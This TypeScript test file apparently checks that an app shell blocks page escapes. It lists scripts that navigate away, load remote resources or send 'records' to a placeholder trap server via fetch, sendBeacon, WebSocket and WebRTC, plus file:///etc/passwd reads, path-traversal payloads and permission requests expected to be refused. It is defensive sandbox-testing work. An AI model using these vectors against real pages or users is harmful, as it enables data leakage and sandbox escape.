/**
 * Ways to leave the page, to open another or to send something out, each as a script that runs inside the interface with a person's
 * click behind it. $TRAP is a server that must not be reached, $NAME the same by name, $OWN the page's own origin, $OTHER another host of its scheme.
 */
export type Way = readonly [title: string, script: string]

const element = (name: string, attributes: Readonly<Record<string, string>>, then = '') =>
  `const it = document.createElement('${name}'); ${Object.entries(attributes)
    .map(([key, value]) => `it.setAttribute('${key}', ${JSON.stringify(value)}); `)
    .join('')}document.body.append(it); ${then}`
const link = (attributes: Readonly<Record<string, string>>) => element('a', attributes, 'it.click(); it.remove()')
const inHead = (attributes: Readonly<Record<string, string>>) =>
  `const it = document.createElement('link'); Object.assign(it, ${JSON.stringify(attributes)}); document.head.append(it); setTimeout(() => it.remove(), 45)`
const shown = (name: string, attributes: Readonly<Record<string, string>>) =>
  element(name, attributes, 'setTimeout(() => it.remove(), 45)')

const LOCATION: readonly Way[] = [
  ['location.href to a web page', `location.href = '$TRAP/'`],
  ['location.href to a web page by name', `location.href = '$NAME/'`],
  ['location = …', `location = '$TRAP/'`],
  ['document.location', `document.location = '$TRAP/'`],
  ['top.location', `top.location = '$TRAP/'`],
  ['parent.location', `parent.location.href = '$TRAP/'`],
  ['location.assign', `location.assign('$TRAP/')`],
  ['location.replace', `location.replace('$TRAP/')`],
  ['location.host', `location.host = '127.0.0.1'`],
  ['location.port', `location.port = '8080'`],
  ['location.protocol', `location.protocol = 'https:'`],
  ['location.pathname', `location.pathname = '/elsewhere'`],
  ['location.search', `location.search = '?taken=1'`],
  ['navigation.navigate', `navigation.navigate('$TRAP/')`],
  ['navigation.navigate in place of this page', `navigation.navigate('$TRAP/', { history: 'replace' })`],
  ['a navigation after a pause', `setTimeout(() => { location.href = '$TRAP/late' }, 20)`],
  ['a javascript: address', `location.href = 'javascript:document.title="ran"'`],
  ['a data: page', `location.href = 'data:text/html,<title>out</title>'`],
  ['a file: address', `location.href = 'file:///etc/passwd'`],
  ['a file: address of another computer', `location.href = 'file://127.0.0.1/share/x'`],
  ['a chrome: page', `location.href = 'chrome://version'`],
  ['a devtools: page', `location.href = 'devtools://devtools/bundled/inspector.html'`],
  ['view-source:', `location.href = 'view-source:$TRAP/'`],
  ['a mailto: address', `location.href = 'mailto:someone@example.org?body=records'`],
  ['a tel: address', `location.href = 'tel:988'`],
  ['an address of another program', `location.href = 'ms-settings:privacy'`],
  ['an ftp: address', `location.href = 'ftp://127.0.0.1/x'`],
  ['a filesystem: address', `location.href = 'filesystem:$OWN/temporary/x'`],
]

const OWN_SCHEME: readonly Way[] = [
  ['another host of the own scheme', `location.href = '$OTHER/index.html'`],
  ['the own host with a port', `location.href = '$OWN:8080/index.html'`],
  ['the own host with a user name', `location.href = '$OWN/'.replace('//', '//someone@')`],
  ['the own host with a dot behind it', `location.href = '$OWN./index.html'`],
  ['a file of the bundle as a page', `location.href = document.querySelector('script[src]').src`],
  ['a file that is not there', `location.href = '$OWN/nothing-here.html'`],
  ['the folder itself', `location.href = '$OWN/'`],
  ['the page with a query', `location.href = '$OWN/index.html?x=1'`],
  ['the page in capitals', `location.href = '$OWN/INDEX.HTML'`],
  ['dot-dot', `location.href = '$OWN/../../../../etc/passwd'`],
  ['dot-dot, encoded', `location.href = '$OWN/%2e%2e/%2e%2e/etc/passwd'`],
  ['dot-dot, encoded twice', `location.href = '$OWN/%252e%252e/%252e%252e/etc/passwd'`],
  ['a slash, encoded', `location.href = '$OWN/..%2f..%2fvault.js'`],
  ['backslashes', `location.href = '$OWN/..\\\\..\\\\main.js'`],
  ['backslashes, encoded', `location.href = '$OWN/..%5c..%5cmain.js'`],
  ['a NUL, encoded', `location.href = '$OWN/index.html%00.js'`],
  ['two slashes', `location.href = '//127.0.0.1:$PORT/'`],
  ['three slashes and a backslash', `location.href = '/\\\\127.0.0.1:$PORT/'`],
]

const LINKS: readonly Way[] = [
  ['a link', link({ href: '$TRAP/' })],
  ['a link into a new window', link({ href: '$TRAP/', target: '_blank' })],
  ['a link into a new window with its opener', link({ href: '$TRAP/', target: '_blank', rel: 'opener' })],
  ['a link into a named window', link({ href: '$TRAP/', target: 'other' })],
  ['a link into the top window', link({ href: '$TRAP/', target: '_top' })],
  ['a link that downloads', link({ href: '$TRAP/x', download: 'x.txt' })],
  ['a link that downloads a file of the bundle', link({ href: '$OWN/index.html', download: 'x.html' })],
  ['a link with a ping', link({ href: '#/today', ping: '$TRAP/ping' })],
  ['a link to a javascript: address', link({ href: 'javascript:document.title="ran"' })],
  ['a link to a data: page', link({ href: 'data:text/html,out', target: '_blank' })],
  ['a link to the own page in a new window', link({ href: '$OWN/index.html', target: '_blank' })],
  ['a link to an empty page in a new window', link({ href: 'about:blank', target: '_blank' })],
  [
    'a link inside a drawing',
    `const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); const it = document.createElementNS(svg.namespaceURI, 'a');
    it.setAttribute('href', '$TRAP/'); svg.append(it); document.body.append(svg); it.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true })); svg.remove()`,
  ],
  ['a link on an image map', element('area', { href: '$TRAP/' }, 'it.click(); it.remove()')],
  [
    'a base address in front of a link',
    `const base = document.createElement('base'); base.href = '$TRAP/'; document.head.prepend(base); ${link({ href: 'x' })}; base.remove()`,
  ],
  [
    'a blob that downloads',
    `const it = document.createElement('a'); it.href = URL.createObjectURL(new Blob(['records'])); it.download = 'x.txt'; it.click()`,
  ],
]

const WINDOWS: readonly Way[] = [
  ['window.open', `window.open('$TRAP/')`],
  ['window.open with features', `window.open('$TRAP/', '_blank', 'popup,width=200,height=200')`],
  ['window.open without an opener', `window.open('$TRAP/', '_blank', 'noopener,noreferrer')`],
  ['window.open of a named window', `window.open('$TRAP/', 'other')`],
  ['window.open of nothing', `window.open()`],
  ['window.open of the own page', `window.open('$OWN/index.html')`],
  ['window.open of a data: page', `window.open('data:text/html,out')`],
  ['window.open of a file', `window.open('file:///etc/passwd')`],
  ['window.open in place of this page', `Window.prototype.open?.call(window, '$TRAP/', '_self')`],
  [
    'window.open of an empty frame',
    `const it = document.createElement('iframe'); document.body.append(it); const open = it.contentWindow.open;
    try { open.call(window, '$TRAP/') } catch {} try { it.contentWindow.open('$TRAP/') } catch {} setTimeout(() => it.remove(), 45)`,
  ],
  [
    'an empty frame that moves its parent',
    `const it = document.createElement('iframe'); document.body.append(it); const link = it.contentDocument.createElement('a');
    link.href = '$TRAP/'; link.target = '_top'; it.contentDocument.body.append(link); link.click(); setTimeout(() => it.remove(), 45)`,
  ],
  ['a picture in picture window', `documentPictureInPicture.requestWindow()`],
]

const FORMS: readonly Way[] = [
  ['a form that gets', element('form', { action: '$TRAP/' }, 'it.submit(); it.remove()')],
  ['a form that posts', element('form', { action: '$TRAP/', method: 'post' }, 'it.submit(); it.remove()')],
  ['a form into a new window', element('form', { action: '$TRAP/', target: '_blank' }, 'it.submit(); it.remove()')],
  ['a form that is asked to submit', element('form', { action: '$TRAP/' }, 'it.requestSubmit(); it.remove()')],
  ['a form without an address', element('form', {}, 'it.submit(); it.remove()')],
  ['a form to a javascript: address', element('form', { action: 'javascript:alert(1)' }, 'it.submit(); it.remove()')],
  [
    'a button with an address of its own',
    element(
      'form',
      {},
      `const button = document.createElement('button'); button.setAttribute('formaction', '$TRAP/'); it.append(button); button.click(); it.remove()`,
    ),
  ],
  [
    'meta refresh',
    `const it = document.createElement('meta'); it.httpEquiv = 'refresh'; it.content = '0;url=$TRAP/'; document.head.append(it); setTimeout(() => it.remove(), 45)`,
  ],
  ['document.write', `document.write('<script>document.title="ran"</script>')`],
  ['document.open of an address', `document.open('$TRAP/', '_blank', '')`],
]

const FRAMES: readonly Way[] = [
  ['a frame with a web page', shown('iframe', { src: '$TRAP/' })],
  [
    'a frame with a data: page',
    shown('iframe', { src: 'data:text/html,<script>parent.document.title="ran"</script>' }),
  ],
  ['a frame with a script for an address', shown('iframe', { src: 'javascript:parent.document.title="ran"' })],
  ['a frame with the own page', shown('iframe', { src: '$OWN/index.html' })],
  ['a frame with a file', shown('iframe', { src: 'file:///etc/passwd' })],
  ['a frame with its text', shown('iframe', { srcdoc: '<script>parent.document.title="ran"</script>' })],
  [
    'a frame with a blob',
    `const it = document.createElement('iframe'); it.src = URL.createObjectURL(new Blob(['<script>parent.document.title="ran"</script>'], { type: 'text/html' })); document.body.append(it); setTimeout(() => it.remove(), 45)`,
  ],
  ['a fenced frame', shown('fencedframe', { src: '$TRAP/' })],
  ['a portal', shown('portal', { src: '$TRAP/' })],
  ['an object', shown('object', { data: '$TRAP/', type: 'text/html' })],
  ['an embed', shown('embed', { src: '$TRAP/', type: 'text/html' })],
  ['a webview', shown('webview', { src: '$TRAP/' })],
]

const HISTORY: readonly Way[] = [
  ['history.back beyond the first page', `history.go(-99)`],
  ['history.forward', `history.forward()`],
  ['pushState to another origin', `history.pushState(null, '', '$TRAP/')`],
  ['replaceState to another origin', `history.replaceState(null, '', '$OTHER/')`],
  ['navigation.traverseTo', `navigation.traverseTo('elsewhere')`],
]

const LOADS: readonly Way[] = [
  ['an image', `new Image().src = '$TRAP/x.png'`],
  ['an image of several sizes', shown('img', { srcset: '$TRAP/1.png 1x, $TRAP/2.png 2x' })],
  ['an image button', shown('input', { type: 'image', src: '$TRAP/x.png' })],
  [
    'an image in a drawing',
    `const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); const it = document.createElementNS(svg.namespaceURI, 'image'); it.setAttribute('href', '$TRAP/x.png'); svg.append(it); document.body.append(svg); setTimeout(() => svg.remove(), 45)`,
  ],
  ['a video', shown('video', { src: '$TRAP/x.mp4', poster: '$TRAP/x.png', autoplay: '' })],
  ['a sound', `new Audio('$TRAP/x.mp3').play()`],
  [
    'a script',
    `const it = document.createElement('script'); it.setAttribute('src', '$TRAP/x.js'); document.head.append(it)`,
  ],
  [
    'a script by its property',
    `const it = document.createElement('script'); it.src = '$TRAP/x.js'; document.head.append(it)`,
  ],
  [
    'a script inside the page',
    `const it = document.createElement('script'); it.text = 'document.title="ran"'; document.head.append(it)`,
  ],
  ['import()', `import('$TRAP/x.js')`],
  ['import() of a data: module', `import('data:text/javascript,document.title="ran"')`],
  [
    'import() of a blob',
    `import(URL.createObjectURL(new Blob(['document.title="ran"'], { type: 'text/javascript' })))`,
  ],
  ['eval', `setTimeout('document.title="ran"')`],
  ['new Function', `new Function('document.title="ran"')()`],
  ['an event handler in an attribute', shown('img', { src: 'x:', onerror: 'document.title="ran"' })],
  ['a style sheet', inHead({ rel: 'stylesheet', href: '$TRAP/x.css' })],
  [
    'a style with an import',
    `const it = document.createElement('style'); it.textContent = '@import "$TRAP/x.css"'; document.head.append(it)`,
  ],
  [
    'a background',
    `document.body.style.backgroundImage = 'url($TRAP/x.png)'; setTimeout(() => { document.body.style.backgroundImage = '' }, 100)`,
  ],
  [
    'a style sheet made by script',
    `const it = new CSSStyleSheet(); it.replaceSync('body { background: url($TRAP/x.png) }'); document.adoptedStyleSheets.push(it); setTimeout(() => document.adoptedStyleSheets.pop(), 100)`,
  ],
  ['a font', `const it = new FontFace('x', 'url($TRAP/x.woff2)'); document.fonts.add(it); it.load().catch(() => {})`],
  ['a link that prefetches', inHead({ rel: 'prefetch', href: '$TRAP/x' })],
  ['a link that preloads', inHead({ rel: 'preload', as: 'image', href: '$TRAP/x.png' })],
  ['a link that preloads a module', inHead({ rel: 'modulepreload', href: '$TRAP/x.js' })],
  ['a link that prerenders', inHead({ rel: 'prerender', href: '$TRAP/x' })],
  ['a link that connects in advance', inHead({ rel: 'preconnect', href: '$TRAP' })],
  ['a link that connects in advance, by name', inHead({ rel: 'preconnect', href: '$NAME' })],
  ['a link that looks a name up in advance', inHead({ rel: 'dns-prefetch', href: '//records.example.org' })],
  ['an icon', inHead({ rel: 'icon', href: '$TRAP/x.ico' })],
  ['a manifest', inHead({ rel: 'manifest', href: '$TRAP/x.json' })],
  [
    'speculation rules',
    `const it = document.createElement('script'); it.type = 'speculationrules'; it.text = JSON.stringify({ prefetch: [{ urls: ['$TRAP/x'] }], prerender: [{ urls: ['$TRAP/y'] }] }); document.head.append(it)`,
  ],
]

const SENDS: readonly Way[] = [
  ['fetch', `fetch('$TRAP/')`],
  ['fetch without looking', `fetch('$TRAP/', { mode: 'no-cors', method: 'POST', body: 'records' })`],
  ['fetch that outlives the page', `fetch('$TRAP/', { keepalive: true, mode: 'no-cors' })`],
  ['fetch of a file', `fetch('file:///etc/passwd')`],
  ['fetchLater', `fetchLater('$TRAP/', { activateAfter: 0 })`],
  ['XMLHttpRequest', `const it = new XMLHttpRequest(); it.open('POST', '$TRAP/'); it.send('records')`],
  ['sendBeacon', `navigator.sendBeacon('$TRAP/', 'records')`],
  ['EventSource', `new EventSource('$TRAP/')`],
  ['WebSocket', `new WebSocket('$TRAP/'.replace('http', 'ws'))`],
  ['WebSocket by name', `new WebSocket('$NAME/'.replace('http', 'ws'))`],
  ['WebTransport', `new WebTransport('$TRAP/'.replace('http:', 'https:'))`],
  ['WebRTC through a STUN server', rtc('stun:127.0.0.1:$PORT')],
  ['WebRTC through a TURN server', rtc('turn:127.0.0.1:$PORT')],
  ['WebRTC through a TURN server over TCP', rtc('turn:127.0.0.1:$PORT?transport=tcp')],
  ['WebRTC through a STUN server by name', rtc('stun:trap.localhost:$PORT')],
  ['a worker from the web', `new Worker('$TRAP/x.js')`],
  ['a worker from a blob', `new Worker(URL.createObjectURL(new Blob(['fetch("$TRAP/")'])))`],
  ['a worker from the bundle', `new Worker(document.querySelector('script[src]').src, { type: 'module' })`],
  ['a shared worker', `new SharedWorker(document.querySelector('script[src]').src)`],
  ['a service worker', `navigator.serviceWorker.register(document.querySelector('script[src]').src)`],
  ['an audio worklet', `new AudioContext().audioWorklet.addModule('$TRAP/x.js')`],
  ['a paint worklet', `CSS.paintWorklet.addModule('$TRAP/x.js')`],
  ['a handler for a kind of address', `navigator.registerProtocolHandler('web+records', '$OWN/?%s')`],
]

function rtc(urls: string): string {
  return `const it = new RTCPeerConnection({ iceServers: [{ urls: '${urls}', username: 'a', credential: 'b' }] }); it.createDataChannel('x');
    it.createOffer().then(offer => it.setLocalDescription(offer)); setTimeout(() => it.close(), 300)`
}

/** Each leaves the page where it was. */
export const WAYS_OUT: readonly Way[] = [
  ...LOCATION,
  ...OWN_SCHEME,
  ...LINKS,
  ...WINDOWS,
  ...FORMS,
  ...FRAMES,
  ...HISTORY,
  ...LOADS,
  ...SENDS,
]

/** The shell is not asked about these beforehand (of a blob: in the stand-in only): it brings the page home again. */
export const WAYS_HOME: readonly Way[] = [
  ['an empty page', `location.href = 'about:blank'`],
  ['an empty page in place of this one', `location.replace('about:blank')`],
  ['another about: page', `location.href = 'about:nothing'`],
  [
    'a blob as a page',
    `location.href = URL.createObjectURL(new Blob(['<script>document.title="ran"</script><img src="$TRAP/x.png">'], { type: 'text/html' }))`,
  ],
  ['loading the page again', `location.reload()`],
]

const asked = (expression: string) =>
  `(async () => { try { const it = await (${expression}); return it === 'denied' ? 'refused' : 'given: ' + String(it) } catch (error) { return 'refused' } })()`

/** What a page may ask of the computer; each answer is `refused`. */
export const REQUESTS: readonly Way[] = [
  ['the camera', asked(`navigator.mediaDevices.getUserMedia({ video: true })`)],
  ['the microphone', asked(`navigator.mediaDevices.getUserMedia({ audio: true })`)],
  ['the screen', asked(`navigator.mediaDevices.getDisplayMedia()`)],
  ['the place', asked(`new Promise((done, fail) => navigator.geolocation.getCurrentPosition(done, fail))`)],
  ['notifications', asked(`Notification.requestPermission()`)],
  ['the text of the clipboard', asked(`navigator.clipboard.readText()`)],
  ['all of the clipboard', asked(`navigator.clipboard.read()`)],
  ['a USB device', asked(`navigator.usb.requestDevice({ filters: [] })`)],
  [
    'a HID device',
    asked(`navigator.hid.requestDevice({ filters: [] }).then(found => found.length === 0 ? 'denied' : found)`),
  ],
  ['a serial port', asked(`navigator.serial.requestPort()`)],
  ['a Bluetooth device', asked(`navigator.bluetooth.requestDevice({ acceptAllDevices: true })`)],
  ['a MIDI device', asked(`navigator.requestMIDIAccess({ sysex: true })`)],
  ['the fonts', asked(`queryLocalFonts()`)],
  ['whether somebody is there', asked(`IdleDetector.requestPermission()`)],
  ['the screen kept awake', asked(`navigator.wakeLock.request('screen')`)],
  [
    'a payment',
    asked(
      `new PaymentRequest([{ supportedMethods: 'basic-card' }], { total: { label: 'x', amount: { currency: 'USD', value: '1' } } }).show()`,
    ),
  ],
  ['a passkey', asked(`navigator.credentials.get({ publicKey: { challenge: new Uint8Array(16) } })`)],
  ['the whole screen', asked(`document.documentElement.requestFullscreen()`)],
  ['the pointer', asked(`document.body.requestPointerLock()`)],
  ['lasting storage', asked(`navigator.storage.persist().then(kept => kept ? kept : 'denied')`)],
  [
    'sensors',
    asked(
      `new Promise((done, fail) => { const it = new Accelerometer(); it.onerror = fail; it.onactivate = done; it.start() })`,
    ),
  ],
]
